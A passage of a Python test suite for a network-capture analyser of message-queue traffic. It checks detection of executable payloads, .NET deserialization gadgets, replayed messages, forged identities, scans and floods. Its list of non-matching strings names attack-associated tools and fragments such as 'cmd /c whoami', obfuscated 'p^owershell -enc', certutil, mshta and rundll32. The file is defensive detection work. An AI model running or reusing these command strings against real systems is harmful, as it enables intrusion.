    "PowerShell training on Monday, see http://a/b",
    "PowerShell add-on",
    "PowerShell start-up guide",
    "mshta failed",
    "PowerShell - an introduction",
    "PowerShell (scripts)",
    "PowerShell/Bash scripts",
    "PowerShell /Bash scripts",
    "PowerShell $5",
    "PowerShell $profile is set",
    "PowerShell -Training am Montag",
    "PowerShell \u2013 ein Kurs",
    "PowerShell \u2014Training",
    "PowerShell -Buch;29.90;EUR",
    "PowerShell /Workshop",
    "wmic process failed",
    "sh. Anlage",
    "sh 12.30",
    "rundll32 crashed.",
    "rundll32 error, code 5",
    "certutil: -2146885628",
    "wget/curl is missing",
    "curl: (6) Could not resolve host",
    "wget - a program",
    "regsvr32 failed: a.dll",
    "msiexec returned 1603",
    "run cmd /c whoami",
    "<a>cmd /c whoami</a>",
    '{"a": "cmd /c whoami"}',
    "cmdlet /c",
    "mycmd /c a",
    "xcmd /c a",
    "https://example.com/powershell -enc",
    "bash is a shell",
    "bash -- a shell",
    "curl -- a program",
    "CMD/D/2023",
    "CMD /c/o A",
    "cscript",
    "p^owershell -enc AAAA",
    "\0cmd /c a",
)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16-le", "utf-16"])
def test_command_lines(encoding: str) -> None:
    """The first word is a program, and what follows is its argument; a text about a program is none."""
    lines = [*COMMANDS, *(command.upper() for command in COMMANDS), *NO_COMMANDS]
    expected = [f"a command line for {name}" for name in COMMANDS.values()] * 2 + [None] * len(NO_COMMANDS)
    columns = content_columns(pa.array([line.encode(encoding) for line in lines], pa.binary()))
    assert dict(zip(lines, columns["content"].to_pylist(), strict=True)) == dict(
        zip(lines, expected, strict=True)
    )


def test_much_space_in_command_lines() -> None:
    """The work for a body does not grow with the square of its space."""
    bodies = [b"powershell" + b" " * 1000, b"powershell " + b"( " * 500, b" " * 1024, b"curl" + b"\t" * 1000]
    started = time.process_time()
    assert [command_line(body) for body in bodies * 50] == [None] * 200
    assert time.process_time() - started < 1


def test_the_page_names_every_program() -> None:
    (pattern,) = [pattern for pattern in PATTERNS if pattern.id == "executable-body"]
    assert all(name in pattern.limits for name in COMMANDS.values())


BEGINNINGS = {
    "MZ with a PE, NE, LE or LX header": b"MZ" + bytes(58) + number(64) + b"LX",
    "ELF": b"\x7fELF\2\1\1",
    "Mach-O": bytes.fromhex("cffaedfe 0c000001 00000000 02000000"),
    "Java classes": bytes.fromhex("cafebabe 00000034"),
    "shortcuts of Windows (LNK)": SHORTCUT,
    "#! with a path": b"#!/bin/sh",
    "<?php": b"<?php",
    "and @echo off": b"@echo off",
}


def test_the_page_names_what_is_known() -> None:
    (pattern,) = [pattern for pattern in PATTERNS if pattern.id == "executable-body"]
    assert f": {', '.join(BEGINNINGS)}." in pattern.limits
    assert None not in content_columns(pa.array(BEGINNINGS.values()))["content"].to_pylist()


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        (PE, {"executable-body"}),
        (ENCODED.encode(), {"executable-body"}),
        (ENCODED.encode("utf-16-le"), {"executable-body"}),
        (stream(PERSON, b"\x0a"), {"dotnet-object"}),
        (stream(kind(1, "System.Data.DataSet")), {"dotnet-object", "dotnet-gadget"}),
        (b"text", set()),
    ],
)
def test_bodies(body: bytes, expected: set[str], tmp_path: Path) -> None:
    """In a message that is captured completely, and in one whose end is missing."""
    capture = Capture()
    session(capture).send("->", message(body))
    session(capture, src="10.0.0.5").send("->", message(body + bytes(400))[:-200])
    rows = findings_of(capture, tmp_path)
    assert {row["id"] for row in rows} == expected
    assert {row["src"] for row in rows} == ({"10.0.0.1", "10.0.0.5"} if expected else set())
    assert {row["message"] for row in rows} <= {f"{ONE}\\7"}


# ------------------------------------------------------------------------------------------ patterns


def severe(place: Path) -> list[dict[str, Any]]:
    rows = captures.tables(place, ["findings"])["findings"].read_all().to_pylist()
    return [row for row in rows if row["severity"] != SEVERITIES[0]]


@pytest.mark.long
def test_a_faulty_network_contradicts_nothing(tmp_path: Path) -> None:
    faults = msgspec.structs.replace(Faults.all(), conflict=0.0, spoil=0.0, bend=0.0, keepalive=0.02)
    write_captures(tmp_path, 4000, seed=47, faults=faults)
    assert severe(tmp_path / "captures") == []


@pytest.mark.long
@pytest.mark.parametrize("seed", range(share(10)))
def test_a_million_clean_packets(seed: int, tmp_path: Path) -> None:
    """A million in a thorough run."""
    count = share(100_000, 30_000)
    assert write_captures(tmp_path, count, seed=1000 + seed, managers=(24, 60)[seed % 2]).packets == count
    assert severe(tmp_path / "captures") == []


@pytest.mark.parametrize("pattern", PATTERNS, ids=lambda pattern: pattern.id)
def test_patterns_say_what_they_need(pattern: Pattern) -> None:
    fields = {name for _, name, _, _ in string.Formatter().parse(pattern.evidence) if name}
    assert fields | {condition.fact for condition in pattern.conditions} <= {*FACTS}
    assert pattern.severity in SEVERITIES
    for words in (pattern.meaning, pattern.looks_alike, pattern.action, pattern.limits):
        assert words.endswith(".")


def test_patterns_have_names_of_their_own() -> None:
    assert len({pattern.id for pattern in PATTERNS}) == len(PATTERNS)
    used = {condition.fact for pattern in PATTERNS for condition in pattern.conditions}
    used |= {name for row in PATTERNS for _, name, _, _ in string.Formatter().parse(row.evidence) if name}
    assert used == {*FACTS}


# ------------------------------------------------------------------------------------ replayed messages


def replays(folder: Path, *sensors: Capture) -> list[dict[str, Any]]:
    """The findings about messages from a second address, in whatever order rows come."""
    batches = []
    for capture in sensors:
        maker = TableBuilder(frozenset({"findings", REPLAYED}), Settings(), folder)
        batches += [batch for name, batch in maker.tables([batch_of(capture)], 0) if name == REPLAYED]
    both = [
        [row for _, batch in replay_findings(rows) for row in batch.to_pylist()]
        for rows in (batches, [batch.take(pa.array(range(len(batch)))[::-1]) for batch in batches[::-1]])
    ]
    assert both[0] == both[1]
    return both[0]


def test_a_message_from_a_second_address(tmp_path: Path) -> None:
    capture = Capture()
    session(capture).send("->", message(b"order"), message(b"other", MessageID=8)).close()
    stranger = session(capture, src="203.0.113.9").send("->", message(b"order")).send("->", message(b"order"))
    stranger.send("->", message(b"other", MessageID=8)).close()
    (row,) = replays(tmp_path, capture)
    assert (row["id"], row["severity"], row["src"], row["dst"]) == (
        "replayed-message", "info", "203.0.113.9", "10.0.0.2",
    )  # fmt: skip
    assert (row["count"], row["message"]) == (2, f"{ONE}\\7")
    assert "10.0.0.1" in row["evidence"]


@pytest.mark.parametrize(
    "ends",
    [
        [("10.0.0.1", "10.0.0.2"), ("10.0.0.1", "10.0.0.2")],  # sent again
        [("10.0.0.1", "10.0.0.2"), ("10.0.0.2", "10.0.0.3")],  # sent on
        [("10.0.0.1", "10.0.0.3"), ("10.0.0.1", "10.0.0.2"), ("10.0.0.2", "10.0.0.3")],  # over a router, too
        [("10.0.0.1", "10.0.0.2"), ("10.0.0.4", "10.0.0.3")],  # by routers, between which nothing is captured
    ],
)
def test_a_message_that_is_sent_on_is_not_replayed(ends: list[tuple[str, str]], tmp_path: Path) -> None:
    capture = Capture()
    for port, (src, dst) in enumerate(ends, 50_000):
        session(capture, src=src, dst=dst, src_port=port).send("->", message(b"order")).close()
    assert replays(tmp_path, capture) == []


def test_other_messages_and_other_sensors_are_no_replay(tmp_path: Path) -> None:
    """An identifier that is used again, and a host that another sensor sees at another address."""
    capture, elsewhere = Capture("/captures/a/1.pcap"), Capture("/captures/b/1.pcap")
    session(capture).send("->", message(b"order", SentTime=5)).close()
    session(capture, src="10.0.0.7").send("->", message(b"order", SentTime=6)).close()
    session(elsewhere, src="10.0.0.9").send("->", message(b"order", SentTime=5)).close()
    assert replays(tmp_path, capture, elsewhere) == []


# ------------------------------------------------------------------------------------ joined connections


def request(manager: GUID = ONE, stamp: int = 0) -> bytes:
    header = mqqb.EstablishConnectionHeader(ClientGuid=manager, ServerGuid=OTHER, TimeStamp=stamp)
    return mw.encode(mqqb.EstablishConnection(EstablishConnectionHeader=header))


def joined(capture: Capture, place: Path) -> list[dict[str, Any]]:
    """The findings that join connections, made of the rows of a bucket."""
    maker = TableBuilder(frozenset({"findings", JOINED}), Settings(), place)
    batches = [batch for name, batch in maker.tables([batch_of(capture)], 0) if name == JOINED]
    whole = [row for _, batch in joined_findings(batches) for row in batch.to_pylist()]
    halves = [one.slice(start, 1) for one in batches for start in reversed(range(one.num_rows))]
    assert [row for _, batch in joined_findings(halves) for row in batch.to_pylist()] == whole
    return whole


def asks(capture: Capture, address: str, port: int, age: int | None = None) -> Talk:
    """A connection from an address whose opener asks for a session as the same queue manager.

    When the capture begins, its system runs for so many milliseconds, by default for others at each address.
    """
    dst = "2001:db8::2" if ":" in address else "10.0.0.2"
    talk = Talk(capture, src=address, src_port=port, dst=dst).open()
    milliseconds = len(capture.rows) + 1
    stamp = (int(address[-1]) * 10_000 if age is None else age) + milliseconds
    return talk.send("->", request(stamp=stamp % 2**32), message())


@pytest.mark.parametrize(
    "addresses",
    [
        ("10.0.0.1", "10.0.0.3"),
        ("10.0.0.1", "10.0.0.3", "10.0.0.1"),
        ("10.0.0.1", "10.0.0.3", "10.0.0.5", "10.0.0.3", "10.0.0.1"),
        ("10.0.0.1", "2001:db8::1", "10.0.0.1"),
    ],
)
def test_a_host_that_moves(addresses: tuple[str, ...], tmp_path: Path) -> None:
    """An address may change, and change back: no connection of one begins before the other has ended."""
    capture = Capture()
    for number, address in enumerate(addresses):
        asks(capture, address, 50_000 + number)
    assert joined(capture, tmp_path) == []


@pytest.mark.parametrize(
    ("stays", "forger", "expected"),
    [
        (True, "10.0.0.3", {"forged-identity"}),
        (False, "10.0.0.3", set()),
        (True, "10.0.0.1", set()),
        (True, "2001:db8::1", set()),
    ],
)
def test_a_forger_while_the_true_host_stays_connected(
    stays: bool, forger: str, expected: set[str], tmp_path: Path
) -> None:
    """It asks for no session again, and goes on to send; or else its address may have changed."""
    capture = Capture()
    true = asks(capture, "10.0.0.1", 49_999)
    asks(capture, forger, 50_000)
    true.send("->" if stays else "<-", message())
    rows = joined(capture, tmp_path)
    assert {row["id"] for row in rows} == expected
    assert [(row["src"], row["count"]) for row in rows] == ([("10.0.0.3", 2)] if expected else [])
    for row in rows:
        since, until, at = (f"2026-01-01 00:00:00.{milliseconds:03}" for milliseconds in (4, 11, 9))
        assert row["evidence"] == (
            f"10.0.0.1 asked for a session as {ONE} at {since} and sent until {until}; 10.0.0.3 asked for "
            f"one as the same at {at}; by TimeStamp, their systems started 20 seconds apart"
        )


@pytest.mark.parametrize(
    ("ages", "seconds", "expected"),
    [
        ((7, 7), 0, []),
        ((7, 7), 86_400, []),
        ((5000, 7000), 0, []),
        ((7000, 5000), 0, []),
        ((5000, 7001), 0, ["forged-identity"]),
        ((7001, 5000), 0, ["forged-identity"]),
        ((2**32 - 1000, 1000), 0, []),  # TimeStamp starts over
        ((2**32 - 1000, 1001), 0, ["forged-identity"]),
        ((5000, 8800), 3600, []),  # the clock of the sensor is slower
        ((5000, 8801), 3600, ["forged-identity"]),
        ((5000, -3595_000), 3600, ["forged-identity"]),  # the same bytes, an hour later
    ],
)
def test_the_addresses_of_one_computer(
    ages: tuple[int, int], seconds: int, expected: list[str], tmp_path: Path
) -> None:
    """It has two interfaces, or the sensor sees both sides of an address translation."""
    capture = Capture()
    first = asks(capture, "10.0.0.1", 49_999, ages[0])
    before = len(capture.rows)
    asks(capture, "10.0.0.3", 50_000, ages[1] + seconds * 1000)
    first.send("->", message())
    for row in capture.rows[before:]:
        row["time"] += dt.timedelta(seconds=seconds)
    assert [row["id"] for row in joined(capture, tmp_path)] == expected


def test_a_computer_with_many_addresses_hides_no_forger(tmp_path: Path) -> None:
    """Its addresses are no pairs, and each of them is compared with the forger."""
    capture = Capture()
    forger = asks(capture, "10.0.0.3", 50_000, 500_000)
    own = [asks(capture, f"10.0.1.{host}", 50_001, 7) for host in range(7)]
    late = asks(capture, "10.0.0.4", 50_001, 900_000)
    for talk in (forger, late, *own):
        talk.send("->", message())
    rows = joined(capture, tmp_path)
    assert {row["id"] for row in rows} == {"forged-identity"}
    pairs = {(row["evidence"].split()[0], row["src"]) for row in rows}
    assert pairs == {*(("10.0.0.3", f"10.0.1.{host}") for host in range(7)), ("10.0.1.6", "10.0.0.4")}


@pytest.mark.parametrize(
    ("order", "expected"),
    [
        # Each connection of an address begins, and ends, where its letter is.
        ("aabbccaa", []),
        ("ccabab", [("10.0.0.2", 2)]),
        ("abab", [("10.0.0.2", 2)]),
        ("abba", [("10.0.0.2", 2)]),
        ("abcacb", [("10.0.0.2", 2), ("10.0.0.3", 2)]),
        ("abbccdda", [("10.0.0.2", 2), ("10.0.0.3", 2), ("10.0.0.4", 2)]),
        ("abbbba", [("10.0.0.2", 3)]),  # two connections of the second one
        ("acdbbdca", [("10.0.0.3", 2), ("10.0.0.4", 2), ("10.0.0.2", 2)]),
    ],
)
def test_connections_that_overlap(order: str, expected: list[tuple[str, int]], tmp_path: Path) -> None:
    """Each pair of addresses is reported once, with the number of its requests."""
    capture = Capture()
    talks: dict[str, Talk] = {}
    for port, letter in enumerate(order):
        if letter in talks:
            talks.pop(letter).send("->", message())
        else:
            talks[letter] = asks(capture, f"10.0.0.{' abcd'.index(letter)}", 50_000 + port)
    assert not talks
    assert [(row["src"], row["count"]) for row in joined(capture, tmp_path)] == expected


@pytest.mark.parametrize(
    ("asked", "others", "expected"),
    [(5, 0, True), (4, 0, False), (6, 1, False), (9, 1, True), (17, 2, False)],
)
def test_scans(asked: int, others: int, expected: bool, tmp_path: Path) -> None:
    """A scanner may send a message to few of the hosts."""
    capture = Capture()
    for host in range(asked + others):
        talk = Talk(capture, dst=f"10.0.1.{host}").open().send("->", request(GUID(bytes([host] * 16))))
        if host >= asked:
            talk.send("->", message())
    rows = [row for row in joined(capture, tmp_path) if row["id"] == "scan"]
    assert [(row["count"], row["dst"]) for row in rows] == ([(asked, "10.0.1.0")] if expected else [])
    for row in rows:
        assert row["evidence"].startswith(f"asked {asked} of {asked + others} hosts for a session, ")


def attempts(capture: Capture, seconds: float, host: int, ping: bool = False) -> None:
    """A request for a session, or a Ping, at some time after the beginning."""
    before = len(capture.rows)
    ends: Any = {"src_port": 40_000 if ping else 40_000 + before, "dst": f"10.0.1.{host}"}
    if ping:
        payload = mqqb.PingPacket(Cookie=before, QMGuid=ONE).encode()
        capture.add(transport="udp", src="10.0.0.1", payload=payload, **{**ends, "dst_port": 3527})
    else:
        Talk(capture, **ends).open().send("->", request())
    for row in capture.rows[before:]:
        row["time"] += dt.timedelta(seconds=seconds)


@pytest.mark.parametrize("ping", [False, True])
@pytest.mark.parametrize(
    ("times", "expected"),
    [
        ((0,), 5),
        ((0, 61), 10),
        ((0, 1, 2), 15),
        ((0, 30, 59), 15),
        ((0, 30, 61), 0),
        ((0, 5, 3600, 7000), 0),
        ((0, 86_400, 172_800), 15),  # each day
    ],
)
def test_neighbours_that_do_not_answer(
    times: tuple[int, ...], expected: int, ping: bool, tmp_path: Path
) -> None:
    """A hub asks its branches again and again; a scanner goes on to other hosts."""
    capture = Capture()
    for seconds in times:
        for host in range(5):
            attempts(capture, seconds, host, ping)
    rows = [row for row in joined(capture, tmp_path) if row["id"] == "scan"]
    assert [row["count"] for row in rows] == [expected] * bool(expected)


@pytest.mark.parametrize(("awaited", "expected"), [(0, 20), (2, 20), (3, None)])
def test_hosts_among_neighbours_that_do_not_answer(
    awaited: int, expected: int | None, tmp_path: Path
) -> None:
    """They are hosts to which the source sent packets, and so its share decides."""
    capture = Capture()
    for host in range(20):
        attempts(capture, 0, host)
    for seconds in (0, 40, 80):
        for host in range(20, 20 + awaited):
            attempts(capture, seconds, host)
    rows = [row for row in joined(capture, tmp_path) if row["id"] == "scan"]
    assert [row["count"] for row in rows] == ([] if expected is None else [expected])


@pytest.mark.parametrize(("callers", "talks", "expected"), [(1, False, 5), (1, True, None), (0, True, 5)])
def test_a_host_that_calls_the_source(
    callers: int, talks: bool, expected: int | None, tmp_path: Path
) -> None:
    """It knows the source, if it sends more than a request; but a server with clients may be a scanner."""
    capture = Capture()
    for host in range(5):
        attempts(capture, 0, host)
    for client in [f"10.0.1.{host}" for host in range(callers)] or [f"10.0.2.{host}" for host in range(9)]:
        talk = Talk(capture, src=client, dst="10.0.0.1").open().send("->", request(OTHER))
        if talks:
            talk.send("->", message())
    rows = [row for row in joined(capture, tmp_path) if row["id"] == "scan"]
    assert [row["count"] for row in rows] == ([] if expected is None else [expected])


@pytest.mark.parametrize(
    ("src_port", "answered", "expected"),
    [(40_000, False, 1), (40_000, True, 1), (1026, True, 1), (3527, False, 0)],
)
def test_pings_of_many_hosts(src_port: int, answered: bool, expected: int, tmp_path: Path) -> None:
    """Answered or not; the side that asks may have the lower port, and two equal ones do not tell."""
    capture = Capture()
    for host in range(6):
        ends: Any = {"src": "10.0.0.1", "src_port": src_port, "dst": f"10.0.1.{host}", "dst_port": 3527}
        capture.add(transport="udp", payload=mqqb.PingPacket(Cookie=7).encode(), **ends)
        if answered:
            back = {"src": ends["dst"], "src_port": 3527, "dst": "10.0.0.1", "dst_port": src_port}
            capture.add(transport="udp", payload=mqqb.PingPacket(Cookie=7).encode(), **back)
    rows = joined(capture, tmp_path)
    assert [(row["id"], row["src"], row["count"]) for row in rows] == [("scan", "10.0.0.1", 6)] * expected


@pytest.mark.parametrize(("silent", "expected"), [(0, []), (4, []), (5, [5])])
def test_pings_before_sessions(silent: int, expected: list[int], tmp_path: Path) -> None:
    """A queue manager asks by a Ping first, and again by a request; each host counts once."""
    capture = Capture()
    for host in range(5):
        attempts(capture, 0, host, ping=True)
        talk = Talk(capture, src_port=50_000, dst=f"10.0.1.{host}").open()
        if host >= silent:
            talk.send("->", request(), message())
    rows = [row for row in joined(capture, tmp_path) if row["id"] == "scan"]
    assert [row["count"] for row in rows] == expected


def test_requests_of_one_source_are_one_row(tmp_path: Path) -> None:
    """For each destination and sensor, whatever the ports, with the place of the first that has a time."""
    capture, elsewhere = Capture("/captures/a/1.pcap"), Capture("/captures/b/1.pcap")
    for host in (7, 8, 7, 7):
        attempts(capture, 0, host)
    for row in capture.rows[:8]:
        row["time"] = None
    attempts(capture, 0, 8, ping=True)
    attempts(elsewhere, 0, 7)
    maker = TableBuilder(frozenset({"findings", JOINED}), Settings(), tmp_path)
    facts = [batch for name, batch in maker.tables([batch_of(capture, elsewhere)], 0) if name == JOINED]
    rows = [row for _, batch in joined_findings(facts) for row in batch.to_pylist()]
    assert [(row["id"], row["file"], row["dst"], row["count"], row["first_frame"]) for row in rows] == [
        ("handshake-only", elsewhere.file, "10.0.1.7", 1, 4),
        ("handshake-only", capture.file, "10.0.1.7", 3, 12),
        ("handshake-only", capture.file, "10.0.1.8", 1, 8),
    ]


@pytest.mark.parametrize(("connections", "expected"), [(299, []), (300, ["connection-flood"])])
def test_floods(connections: int, expected: list[str], tmp_path: Path) -> None:
    capture = Capture()
    for port in range(connections):
        Talk(capture, src_port=20000 + port).open().send("->", message())
    assert [row["id"] for row in joined(capture, tmp_path)] == expected


def position(minute: float, src: str = "10.0.0.1") -> dict[str, Any]:
    """The place of a message, so many minutes after the others."""
    row = dict.fromkeys(name for name, _, _ in CARRIED)
    return {**row, "time": EPOCH + dt.timedelta(minutes=minute), "src": src, "dst": "10.0.0.2", "sensor": "a"}


@pytest.mark.parametrize(
    ("floods", "others", "minutes", "expected"),
    [
        ([3000], 2, 31, 3000),
        ([2999], 2, 31, None),
        ([3000], 2, 30, None),  # nothing is usual yet
        ([3000], 30 * 300, 31, 3000),
        ([3000], 30 * 300 + 1, 31, None),  # of a host that gets 300 in any minute
        ([9000] * 30, 2, 60, 270_000),  # half of the time
        ([9000] * 31, 2, 60, None),
        ([3000, 50_000], 30 * 301, 32, 50_000),
    ],
)
def test_many_messages(floods: list[int], others: int, minutes: int, expected: int | None) -> None:
    """Within a minute, of one source, and compared with the other minutes of the host."""
    facts = FactSums()

    def add(minute: int, src: str, count: int, *numbers: int) -> None:
        rows = pa.RecordBatch.from_pylist([position(minute, src)], schema=plain(schema_of(CARRIED)))
        address, time = rows.column("src"), rows.column("time").cast(pa.int64())
        for number in (ALL, *numbers):
            facts.add("messages", ("messages",), address, rows, time, number=number, count=count)

    add(0, "10.0.0.1", 1)
    add(minutes, "10.0.0.3", others - 1)
    for minute, count in enumerate(floods, 1):
        add(minute, "10.0.0.9", count, minute)
    assert [(row["id"], row["severity"], row["src"], row["count"]) for row in facts.findings()] == (
        [] if expected is None else [("message-flood", "info", "10.0.0.9", expected)]
    )


@pytest.mark.long
def test_many_messages_in_connections(tmp_path: Path) -> None:
    """A minute of several connections counts, wherever batches end, but no connection with few of them."""
    capture = Capture()
    talks = [session(capture, src_port=50_000 + number) for number in range(3)]
    at = EPOCH + dt.timedelta(minutes=2)
    for talk, count in zip(talks, (2900, 100, 99), strict=True):
        for number in range(count):
            data = message(b"x")
            talk.segment("->", talk.next["->"], data, time=at + dt.timedelta(milliseconds=10 * number))
            talk.next["->"] += len(data)
    late = message(b"late")
    talks[0].segment("->", talks[0].next["->"], late, time=EPOCH + dt.timedelta(minutes=40))
    (row,) = joined(capture, tmp_path)
    assert (row["id"], row["count"], row["time"]) == ("message-flood", 3000, at)
    assert row["evidence"].startswith("sent up to 3,000 messages in a minute, ")
    maker = TableBuilder(frozenset({"messages"}), Settings(), tmp_path)
    (whole,) = [batch for name, batch in maker.tables([batch_of(capture)], 0) if name == "messages"]
    rows = []
    for size in (len(whole), 61, 7):
        facts = FactSums()
        bursts = Bursts(facts)
        for start in range(0, len(whole), size):
            bursts.add(whole.slice(start, size))
        bursts.close()
        rows.append(sorted(map(repr, facts.batch().to_pylist())))
    assert rows[0] == rows[1] == rows[2]


@pytest.mark.parametrize(
    ("replicates", "answered", "is_found"), [(True, False, True), (True, True, False), (False, False, False)]
)
def test_directory_servers(replicates: bool, answered: bool, is_found: bool, tmp_path: Path) -> None:
    """Two have to be known, and one of them is if others send to it."""
    carrier = mw.encode(signed(mqdsrp.wrap(
        mqdsrp.ChangePropagationMessage(), "server", ONE, message_id=7, sent_time=1_700_000_000
    )))  # fmt: skip
    capture = Capture()
    servers = session(capture).send("->", carrier)
    if replicates:
        servers.send("<-", carrier)
    stranger = session(capture, src="10.0.0.66", dst="10.0.0.1").send("->", carrier)
    if answered:
        stranger.send("<-", carrier)
    rows = joined(capture, tmp_path)
    assert [(row["id"], row["src"]) for row in rows] == (
        [("directory-stranger", "10.0.0.66")] if is_found else []
    )
